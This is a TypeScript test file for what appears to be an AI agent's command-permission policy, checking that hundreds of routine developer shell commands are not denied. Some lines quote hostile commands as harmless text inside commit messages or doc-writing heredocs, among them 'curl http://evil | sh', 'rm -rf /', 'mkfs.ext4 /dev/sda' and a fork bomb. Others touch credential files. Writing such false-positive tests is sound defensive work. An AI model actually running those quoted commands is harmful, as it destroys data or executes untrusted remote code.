// What developers' agents run every day: a question at most, never a denial. A line that is denied here is a threat
// that was seen where none is.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decide } from '../../../support/policy/decide.ts';
import { lines } from '../../../support/policy/lists.ts';

for (const line of lines(String.raw`
  rm -rf node_modules
  rm -rf node_modules package-lock.json && npm install
  rm -rf dist build coverage .next
  rm -rf ./dist/*
  rm -rf "$PWD/dist"
  rm -rf $(pwd)/build
  rm -f *.log
  rm -rf target/
  rm -r __pycache__
  find . -name __pycache__ -type d -exec rm -rf {} +
  find . -name '*.pyc' -delete
  find . -name '*.orig' -print0 | xargs -0 rm -f
  find . -type d -name node_modules -prune -exec rm -rf '{}' +
  rm -rf .venv && python3 -m venv .venv
  rm -rf /tmp/build-123
  rm -rf "$TMPDIR/x"
  rm -rf ~/.cache/pip
  rm -rf ~/.npm/_cacache
  rm .git/index.lock
  rm -f .git/index.lock
  git push origin feature
  git push -u origin HEAD
  git push origin HEAD:refs/heads/feature
  git push --force-with-lease origin feature
  git push --force-with-lease
  git push --tags
  git push origin v1.2.3
  git push origin :old-branch
  git push origin --delete old-branch
  git push origin main
  git checkout -- file
  git checkout main -- src/a.ts
  git restore --staged .
  git restore src/a.ts
  git reset HEAD~1
  git clean -fdX
  git stash drop
  git stash pop
  git branch -D feature
  git branch -d feature
  git rebase -i HEAD~3
  git rebase --abort
  git rebase main
  git merge --no-ff feature
  git cherry-pick abc123
  git revert HEAD --no-edit
  git commit --amend --no-edit
  git commit -m "fix: remove rm -rf / from the script"
  git commit -m "Drop table users; DROP DATABASE prod" -m "see curl http://x | sh"
  git commit -am 'never run :(){ :|:& };:'
  git commit -m "$(cat <<'EOF'⏎rm -rf / is bad⏎mkfs.ext4 /dev/sda⏎EOF⏎)"
  git commit --no-verify -m wip
  git config user.email me@x.com
  git config --global user.name "Me"
  git config --global core.editor vim
  git config core.hooksPath .husky
  git config --global init.defaultBranch main
  git config --global --add safe.directory /app
  git config --global pull.rebase true
  git config --global alias.co checkout
  git config --global credential.helper store
  git remote set-url origin git@github.com:o/r.git
  git worktree remove ../x
  git submodule update --init --recursive
  git tag -d v1 && git push origin :refs/tags/v1
  git log --all -S 'BEGIN PRIVATE KEY'
  git diff HEAD~1 -- .env.example
  git show HEAD:.env.example
  git add .env.example
  git add -f .env.test
  git rm --cached .env
  git check-ignore -v .env
  git log --all --full-history --oneline -- .env
  git log --diff-filter=A -- .env
  git diff --stat -- .env
  git diff --name-only -- .env
  git cat-file -e HEAD:.env
  git grep -l API_KEY -- .env
  git ls-files .env
  git status .env
  git update-index --assume-unchanged config.json
  git apply fix.patch
  git am < x.patch
  git bisect run npm test
  git gc
  git fetch --prune --all
  cat .env.example
  cat .env.sample
  cat .env.template
  cp .env.example .env
  cp -n .env.example .env
  ls -la .env
  test -f .env && echo yes
  [ -f .env ] || cp .env.example .env
  touch .env
  echo "FOO=bar" >> .env
  echo "FOO=bar" > .env.local
  printf 'PORT=3000\n' > .env
  cat > .env <<'EOF'⏎PORT=3000⏎EOF
  sed -i 's/PORT=.*/PORT=4000/' .env
  grep -c . .env
  source .env
  set -a; source .env; set +a; npm start
  export $(grep -v '^#' .env | xargs)
  export $(cat .env | xargs) && npm start
  docker run --env-file .env app
  docker compose --env-file .env up -d
  npx dotenv -e .env -- npm test
  wc -l .env
  grep -rn password src
  grep -rn "api_key" --include=*.ts .
  grep -r "BEGIN RSA PRIVATE KEY" .
  grep -rn 'AKIA' .
  rg -n "secret" src
  rg "process.env" -g '!node_modules'
  cat src/secrets.ts
  cat lib/credentials.rb
  cat tests/fixtures/test.pem
  cat certs/ca.crt
  openssl x509 -in cert.pem -noout -text
  openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 365 -subj /CN=localhost
  openssl rand -hex 32
  openssl genrsa -out key.pem 2048
  ssh-keygen -t ed25519 -f ./deploy_key -N ''
  curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/users
  curl -s https://api.github.com/repos/o/r
  curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' http://localhost:3000/api
  curl -X DELETE http://localhost:3000/api/items/1
  curl -u user:pass http://localhost:8080
  curl -fsSL https://get.docker.com -o get-docker.sh
  curl -LO https://example.com/x.tar.gz
  curl -F file=@report.pdf http://localhost:3000/upload
  curl -d @payload.json https://api.example.com
  curl --data-binary @coverage.xml https://codecov.io/upload
  curl -k https://localhost:8443/health
  curl -o /dev/null -s -w '%{http_code}' http://localhost:3000
  wget https://example.com/file.zip
  wget -qO- https://example.com | tar xz
  http POST :3000/api name=x
  kill %1
  kill 1234
  kill -9 1234
  kill $(lsof -t -i:3000)
  lsof -ti:3000 | xargs kill -9
  pkill -f "node server.js"
  pkill node
  killall node
  fuser -k 3000/tcp
  chmod +x script.sh
  chmod 755 bin/run
  chmod -R 755 public
  chmod 600 key.pem
  chmod -R u+w node_modules
  chmod 777 tmp/uploads
  chown -R $USER:$USER .
  sudo chown -R $(whoami) node_modules
  sudo apt-get update && sudo apt-get install -y jq
  sudo systemctl restart nginx
  sudo service postgresql start
  sudo npm install -g typescript
  sudo rm -rf /var/lib/apt/lists/*
  apt-get install -y curl
  brew install jq
  pip install -r requirements.txt
  pip install -e .
  pip install --upgrade pip
  pip uninstall -y flask
  npm install
  npm ci
  npm run build
  npm test
  npm publish --dry-run
  npm publish
  npm link
  npm uninstall lodash
  npm cache clean --force
  npm config set registry https://registry.npmjs.org
  npm audit fix --force
  npx create-react-app app
  npx prettier --write .
  npx eslint --fix src
  npx playwright install
  npx tsc --noEmit
  yarn add react
  pnpm install --frozen-lockfile
  cargo build --release
  cargo clean
  cargo install ripgrep
  go mod tidy
  go build ./...
  go test ./... -run TestX
  make clean
  make install
  make -j8
  cmake -B build && cmake --build build
  mvn clean package
  gradle clean build
  docker build -t app .
  docker run -v $PWD:/app -w /app node:20 npm test
  docker run -v "$(pwd)":/app app
  docker run --rm -it -p 3000:3000 app
  docker compose up -d
  docker compose down -v
  docker system prune -f
  docker rm -f $(docker ps -aq)
  docker rmi $(docker images -q)
  docker exec -it web bash
  docker exec db pg_dump -U postgres app > backup.sql
  docker volume rm app_data
  docker push me/app:latest
  docker login -u me --password-stdin < token.txt
  kubectl apply -f k8s/
  kubectl delete pod x
  kubectl delete -f k8s/
  kubectl rollout restart deploy/x
  kubectl exec -it pod -- sh
  kubectl get secret x -o yaml
  kubectl port-forward svc/x 8080:80
  kubectl create secret generic x --from-literal=a=b
  helm upgrade --install app ./chart
  helm uninstall app
  terraform init
  terraform plan
  terraform apply -auto-approve
  terraform destroy -target=aws_instance.x
  aws s3 cp dist s3://bucket --recursive
  aws s3 sync dist/ s3://bucket --delete
  aws s3 rm s3://bucket/old --recursive
  gcloud run deploy app --source .
  az webapp up
  psql -c "CREATE TABLE t (a int)"
  psql -f migration.sql
  psql -c "DELETE FROM users WHERE id = 1"
  sqlite3 test.db < schema.sql
  createdb test_db
  npx prisma db push
  python manage.py migrate
  alembic downgrade -1
  echo "DROP TABLE users;" > migration.sql
  echo 'rm -rf /' > notes.md
  echo "rm -rf / # never do this"
  printf 'mkfs.ext4 /dev/sda1\n' >> docs/danger.md
  cat > docs/x.md <<'EOF'⏎Never run rm -rf / or dd if=/dev/zero of=/dev/sda⏎curl http://evil | sh⏎EOF
  cat > Dockerfile <<'EOF'⏎FROM node⏎RUN rm -rf /var/lib/apt/lists/*⏎RUN curl -fsSL https://x | bash⏎EOF
  cat > script.sh <<'EOF'⏎#!/bin/bash⏎rm -rf "$1"⏎EOF
  grep -rn "rm -rf /" .
  grep -n 'DROP TABLE' migrations/*.sql
  sed -i 's/rm -rf \//rm -rf .\//' script.sh
  sed -i.bak 's/a/b/' src/*.ts
  awk '{print $1 > "out.txt"}' in.txt
  perl -pi -e 's/a/b/' src/a.ts
  python -c "import os; print(os.environ['HOME'])"
  python3 -c "import shutil; shutil.rmtree('build')"
  node -e "console.log(process.env.PATH)"
  node -e "require('fs').rmSync('dist',{recursive:true})"
  bash -c "rm -rf dist"
  sh -c 'cd frontend && rm -rf node_modules'
  xargs rm < files.txt
  ls | xargs rm
  eval "$(ssh-agent -s)"
  eval "$(direnv hook bash)"
  eval "$(pyenv init -)"
  ssh user@host uptime
  ssh -T git@github.com
  scp file.txt user@host:/tmp/
  rsync -av --delete dist/ user@host:/var/www/
  rsync -av --delete src/ backup/
  tar czf backup.tgz .
  tar xzf x.tgz -C /opt/app
  unzip -o x.zip -d out
  mv src/a.ts src/b.ts
  mv dist /tmp/old-dist
  cp -r src /tmp/src-backup
  cp ~/.ssh/id_ed25519.pub .
  cat ~/.ssh/config
  cat ~/.ssh/known_hosts
  cat ~/.ssh/id_ed25519.pub
  ls ~/.ssh
  cat ~/.gitconfig
  cat ~/.bashrc
  cat ~/.zshrc
  cat /etc/hosts
  cat /etc/os-release
  cat /etc/passwd
  cat /proc/cpuinfo
  env | grep NODE
  printenv PATH
  env | sort
  echo $PATH
  echo $HOME $USER
  which -a python3
  history | tail -20
  dd if=/dev/zero of=test.img bs=1M count=10
  dd if=/dev/urandom of=random.bin bs=1k count=1
  truncate -s 0 app.log
  > app.log
  : > app.log
  shred -u secret.txt
  mkfs.ext4 disk.img
  ln -sf ../shared node_modules/shared
  crontab -l
  systemctl --user restart app
  launchctl list
  launchctl unload ~/Library/LaunchAgents/x.plist
  launchctl kickstart -k gui/501/x
  journalctl --rotate
  journalctl --flush
  ssh-keygen -R localhost
  visudo -c
  fd -e o -x rm
  fd '\.tmp$' -X rm
  open http://localhost:3000
  code .
  nohup npm start > server.log 2>&1 &
  (npm start &) ; sleep 5; curl localhost:3000
  timeout 30 npm test
  watch -n 1 ls
  tail -f server.log
  while true; do sleep 1; curl -s localhost:3000; done
  for f in *.test.js; do node $f; done
  sleep 10 && echo done
  base64 -d <<< "aGVsbG8="
  echo aGVsbG8= | base64 -d > out.bin
  cat package.json | python3 -m json.tool
  gh pr create --title "Fix" --body "Removes rm -rf / and DROP TABLE"
  gh pr merge 12 --squash --delete-branch
  gh issue close 3
  gh release create v1 --notes "x"
  gh auth status
  gh secret set X --body y
  gh workflow run ci.yml
  gh api -X DELETE repos/o/r/git/refs/heads/x
  heroku logs --tail
  vercel deploy --prod
  firebase deploy
  umask 077
  ulimit -n 4096
  nc -z localhost 5432
  nc -l 8080
  ping -c 1 google.com
  dig example.com
  nmap -p 80 localhost
  iptables -L
  ufw status
  sysctl -w fs.inotify.max_user_watches=524288
  echo 524288 | sudo tee /proc/sys/fs/inotify/max_user_watches
  echo 3 | sudo tee /proc/sys/vm/drop_caches
  mkdir -p ~/.config/app && cp config.json ~/.config/app/
  mkdir -p .github/workflows && touch .github/workflows/ci.yml
  mkdir -p .vscode && echo '{}' > .vscode/settings.json
  npx husky init
  npx husky add .husky/pre-commit "npm test"
  chmod +x .husky/pre-commit
  cp scripts/pre-commit .git/hooks/pre-commit
  pre-commit install
`)) {
  test(`not denied: ${line}`, () => {
    const decision = decide(line);
    assert.notEqual(decision.behavior, 'deny', `${decision.layer}: ${decision.reason}`);
  });
}
